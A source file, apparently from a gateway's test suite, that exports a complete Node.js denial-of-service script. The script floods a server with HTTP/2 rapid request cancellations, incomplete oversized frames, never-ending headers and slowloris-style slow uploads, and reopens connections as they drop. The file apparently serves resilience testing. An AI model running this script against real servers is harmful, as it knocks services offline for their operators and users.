// The program of an attacker who opens connections to the gateway, each of which takes as much of it as it can.

/**
 * Arguments: mode, host of an app, number of connections, address of the gateway, its port, seconds.
 *
 * Opens connections to the gateway, each with what the mode says, and prints how many were opened, and how many were open at the end: 5 s after the last
 * one was opened, or when the gateway has ended all of them. With seconds, connections that were ended are opened again until then. Written by hand, since
 * clients keep the rules.
 */
export const connectionAttack = String.raw`const [, mode, host, count, at, port = "80", seconds = "0"] = process.argv;
const net = require("node:net");
const frame = (type, flags, id, data, length = data.length) => { const head = Buffer.alloc(9);
  head.writeUIntBE(length, 0, 3); head[3] = type; head[4] = flags; head.writeUInt32BE(id, 5); return Buffer.concat([head, data]); };
const number = (value) => value < 127 ? [value] : [127, (value - 127) & 127 | 128, (value - 127) >> 7];
const field = (name, value) => Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from(number(value.length)), Buffer.from(value)]);
const fields = (method) => Buffer.concat([field(":method", method), field(":scheme", "http"), field(":path", "/"), field(":authority", host)]);
const none = Buffer.alloc(0);
const begin = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, none)]);
const data = frame(0, 0, 1, Buffer.alloc(16000));
const cancel = Buffer.from([0, 0, 0, 8]);
const large = Buffer.concat([begin, frame(0, 0, 1, Buffer.alloc(1000000), 1048576)]);
// Begins requests and cancels them at once.
const cancelling = (s, head, block) => { let id = 3; s.write(head);
  const one = [frame(1, 5, 0, block), frame(3, 0, 0, cancel)];
  const pair = Buffer.concat(one), all = Buffer.concat(Array(50).fill(pair));
  const more = () => { if (s.destroyed) return; const next = Buffer.from(all);
    for (let at = 0; at < next.length; at += pair.length, id += 2) { next.writeUInt32BE(id, at + 5); next.writeUInt32BE(id, at + one[0].length + 5); }
    s.write(next, () => setImmediate(more)); }; more(); };
const modes = {
  // Begins a frame of 1 MB, and sends all of it but a little.
  frames: (s) => s.write(large),
  // Sends 1 MB to an app that does not read it.
  uploads: (s) => { s.write(Buffer.concat([begin, frame(1, 4, 1, fields("POST"))]));
    const more = (left) => { if (left > 0 && !s.destroyed) s.write(data, () => more(left - 1)); }; more(62); },
  // Begins a request whose headers do not end.
  headers: (s) => s.write(Buffer.concat([begin, frame(1, 0, 1, field("x-a", "a".repeat(100)))])),
  cancels: (s) => cancelling(s, begin, fields("GET")),
  // While another request stays open, so that the connection is never idle.
  held: (s) => cancelling(s, Buffer.concat([begin, frame(1, 4, 1, fields("POST"))]), fields("GET")),
  // With headers of 8 KB.
  wide: (s) => cancelling(s, begin, Buffer.concat([fields("GET"), field("x-a", "a".repeat(8000))])),
  // Sends a byte of an upload every 2 s.
  slow: (s) => { s.write("POST / HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: 1000000\r\n\r\n");
    const timer = setInterval(() => s.write("a"), 2000); s.on("close", () => clearInterval(timer)); },
};
let [opened, open, last] = [0, 0, false];
// The connections do nothing until all are open.
const together = mode.startsWith("together-"), waiting = [];
const act = modes[mode.replace("together-", "")];
require("node:dns").lookup(at, async (error, address) => {
  const connect = () => new Promise((resolve) => {
    const s = net.connect({ host: address, port: Number(port), timeout: 5000 }, () => { opened++; open++;
      if (together && !last) waiting.push(s); else act(s);
      resolve(); s.setTimeout(0).on("close", () => { open--; if (Number(seconds) > 0) connect(); }); });
    s.on("error", resolve).on("timeout", resolve).resume();
  });
  const end = () => { console.log(JSON.stringify({ opened, open })); process.exit(0); };
  if (Number(seconds) > 0) setTimeout(end, Number(seconds) * 1000);
  for (let i = 0; i < Number(count); i += 4) await Promise.all(Array.from({ length: 4 }, connect));
  last = true;
  for (const s of waiting) act(s);
  if (Number(seconds) > 0) return;
  if (["uploads", "headers", "slow"].includes(mode)) return setTimeout(end, 5000);
  setInterval(() => { if (open === 0) end(); }, 100);
});`;
